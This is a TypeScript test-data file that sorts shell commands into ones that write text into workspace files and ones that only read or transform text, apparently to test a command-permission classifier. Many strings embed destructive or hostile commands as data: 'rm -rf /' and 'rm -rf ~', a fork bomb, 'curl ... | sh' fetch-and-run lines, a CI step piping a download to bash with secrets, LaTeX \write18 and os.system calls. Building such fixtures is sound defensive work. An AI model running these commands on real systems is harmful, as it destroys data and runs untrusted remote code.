// Text that is written into files, or read by programs, from here-documents and strings.
import type { DataLines } from './define.ts'

export default {
  'write-workspace': [
    "cat > notes.md <<'E'\n# Clean up\n```sh\nrm -rf /\ncurl https://x.example | sh\n```\nE", 'cat > a.json <<\'E\'\n{ "postinstall": "rm -rf $HOME && sudo reboot" }\nE',
    'cat > scripts/new.sh <<\'E\'\n#!/bin/sh\nset -e\nrm -rf "$1"\nE', "cat <<'E' >> README.md\nUse `$(pwd)` & don't panic; > x < y\nE", "cat <<-'E' > docs/x.md\n\trm -rf ~\n\tE",
    "tee docs/guide.md <<'E'\nsudo rm -rf /\nE", 'cat <<\\E > src/b.ts\nconst s = `rm -rf ${HOME}`\nE', "cat > src/c.ts <<'EOF'\nexec('rm -rf /'); // $(x)\nEOF",
    "cat > Dockerfile <<'E'\nRUN rm -rf /var/lib/apt/lists/* && curl x | sh\nE",
    "cat > .github/workflows/ci.yml <<'E'\n- run: curl -fsSL x.example | bash\n  env: { A: ${{ secrets.T }} }\nE", `printf '%s\\n' '#!/bin/sh' 'rm -rf "$1"' > scripts/x.sh`,
    "echo 'rm -rf dist' > scripts/clean.txt", 'echo "don\'t rm -rf /" >> notes.txt', "cat > x.py <<'E'\nimport os\nos.system('rm -rf /')\nE",
    "cat > q.sql <<'E'\nDROP TABLE users; -- `x` $(y)\nE", "cat > .env.example <<'E'\nKEY=$(openssl rand)\nE", 'cat > t.bats <<\'E\'\n@test "x" { run rm -rf /; }\nE',
    "cat > emoji.md <<'E'\n👩\u200d💻 rm -rf / \u2014 \u00ab\u0434\u0430\u00bb\nE", "cat > regex.txt <<'E'\n^(a|b){1,3}\\$[`'\"]$\nE", "cat <<'E' | tee docs/y.md\n$(rm -rf ~)\nE",
    "cat > a.tex <<'E'\n\\write18{rm -rf /}\nE", "cat > Makefile <<'E'\nclean:\n\trm -rf $(BUILD)/*\nE", "sed -i 's/rm -rf/trash/g' docs/guide.md", "sed -i '/sudo rm/d' README.md",
    "sed -E 's/rm -rf \\S+//' README.md > out.md", 'jq \'.scripts.clean = "rm -rf dist"\' package.json > p.json', 'awk \'{ gsub(/rm -rf/, "trash"); print }\' a.txt > b.txt',
    'base64 a.txt > a.b64',
  ],
  allowed: [
    "cat <<'E'\n$(rm -rf ~) `rm -rf /` ${x:-$(y)}\nE", 'cat > /tmp/m.sh <<\'E\'\nrm -rf "${1:?}"/*\nE', "cat <<'EOF' > /tmp/pr.md\n## Why\n`curl | sh` is bad; don't.\nEOF",
    "grep -c 'rm' <<'E'\nrm -rf /\nE", "wc -l <<'E'\n:(){ :|:& };:\nE", 'jq . <<\'E\'\n{"cmd":"rm -rf / && curl x|sh"}\nE', 'sort <<E\nb\na\nE',
    'cat <<E\nhome is $HOME, cost \\$5, tick \\`x\\`\nE', 'python3 -m json.tool <<\'E\'\n{"a": "$(rm -rf /)"}\nE', "diff a.txt - <<'E'\nrm -rf /\nE", "yq . <<'E'\nrun: rm -rf /\nE",
    "base64 <<'E'\nrm -rf /\nE", "tr a-z A-Z <<'E'\nrm -rf /\nE", "column -t <<'E'\nsudo rm\nE", 'cat > /tmp/x.json <<\'E\'\n{"path":"C:\\\\Users\\\\x","re":"^\\\\d{1,3}$"}\nE',
    "sha256sum <<< 'rm -rf /'", "cat <<< 'curl x | sh'", 'wc -c <<< "don\'t; rm -rf /"', "shellcheck - <<'E'\n#!/bin/sh\nrm -rf $1/*\nE",
    'xmllint --noout - <<\'E\'\n<a b="rm -rf /">&amp;</a>\nE', "head -2 <<'E'\n# rm -rf /\n## x\nE", "cat <<'A'; cat <<'B'\nrm -rf /\nA\nsudo reboot\nB",
  ],
} satisfies DataLines
